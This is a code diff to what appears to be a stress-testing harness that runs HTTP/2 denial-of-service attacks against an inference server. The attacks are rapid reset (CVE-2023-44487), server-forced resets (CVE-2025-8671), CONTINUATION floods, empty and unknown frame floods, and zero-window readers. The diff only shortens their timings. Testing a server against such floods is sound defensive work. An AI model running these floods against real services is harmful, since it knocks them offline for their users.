@@ -10,7 +10,7 @@ import http2
 from http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame
 from judge import attack
 
-FLOOD_S = 1.5
+FLOOD_S = 1.0
 
 
 def flood(scene, connections, piece, seconds=FLOOD_S):
@@ -39,7 +39,8 @@ def flood_with(scene, piece, count=4):
 
 @attack()
 def h2_rapid_reset(scene):
-    """Streams that are reset as soon as they are open (CVE-2023-44487): health, then inferences with and without a body."""
+    """Streams that are reset as soon as they are open (CVE-2023-44487): health, then inferences with and without a
+    body."""
     seven = grpc.framed(grpc.seven())
     kinds = [
         (http2.fields("GET", "/v2/health/live"), b""),
@@ -47,7 +48,7 @@ def h2_rapid_reset(scene):
         (grpc.head("ModelInfer"), b""),
     ]
     connections, resets = connect_all(scene, 6), 0
-    while connections and not scene.is_over(2):
+    while connections and not scene.is_over(1.5):
         for connection in list(connections):
             pieces = b""
             for _ in range(100):
@@ -61,7 +62,7 @@ def h2_rapid_reset(scene):
             if not connection.send(pieces) or not connection.pump():
                 connections.remove(connection)
                 connection.close()
-                if not scene.is_over(1.5):
+                if not scene.is_over(1):
                     connections += connect_all(scene, 1)
     return f"{resets} streams reset"
 
@@ -71,7 +72,7 @@ def h2_made_you_reset(scene):
     """Streams that the server has to reset (CVE-2025-8671): window updates of zero, data after the end."""
     seven = grpc.framed(grpc.seven())
     connections, opened = connect_all(scene, 4), 0
-    while connections and not scene.is_over(2):
+    while connections and not scene.is_over(1.5):
         for connection in list(connections):
             pieces = b""
             for _ in range(50):
@@ -87,7 +88,7 @@ def h2_made_you_reset(scene):
             if not connection.send(pieces) or not connection.pump():
                 connections.remove(connection)
                 connection.close()
-                if not scene.is_over(1.5):
+                if not scene.is_over(1):
                     connections += connect_all(scene, 1)
     return f"{opened} streams"
 
@@ -103,7 +104,7 @@ def h2_continuation_flood(scene):
             connection.send(frame(HEADERS, 1, 1, block))
         name = b"x" * max(0, size - 10)
         piece = frame(CONTINUATION, 0, 1, http2.literal(b"a", name) if size else b"")
-        told.append(flood(scene, connections, piece * max(1, 16_000 // (9 + size)), 0.7))
+        told.append(flood(scene, connections, piece * max(1, 16_000 // (9 + size)), 0.4))
     return "; ".join(told)
 
 
@@ -132,7 +133,7 @@ def h2_empty_frames(scene):
             frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 16)),
             frame(0xBE, 0xFF, 0, b"x" * 100),
         ]
-    return "; ".join(flood(scene, list(connections), piece * 500, 0.6) for piece in pieces)
+    return "; ".join(flood(scene, list(connections), piece * 500, 0.4) for piece in pieces)
 
 
 @attack()
@@ -152,7 +153,7 @@ def h2_window_0_readers(scene):
     """64 readers with a window of zero that keep opening streams on /metrics: their replies are held for them."""
     block = http2.fields("GET", "/metrics")
     connections = connect_all(scene, 64, settings=http2.setting(http2.INITIAL_WINDOW_SIZE, 0), window=0)
-    while not scene.is_over(4):
+    while not scene.is_over(2.5):
         for connection in connections:
             for _ in range(4):
                 if not connection.is_over:
@@ -161,7 +162,8 @@ def h2_window_0_readers(scene):
         time.sleep(0.02)
     opened = sum(len(connection.windows) for connection in connections)
     answered = sum(len(connection.statuses) for connection in connections)
-    return f"{opened} streams, {answered} answered, {sum(connection.is_over for connection in connections)} readers dropped"
+    dropped = sum(connection.is_over for connection in connections)
+    return f"{opened} streams, {answered} answered, {dropped} readers dropped"
 
 
 @attack(is_slow=True, limit_s=25)
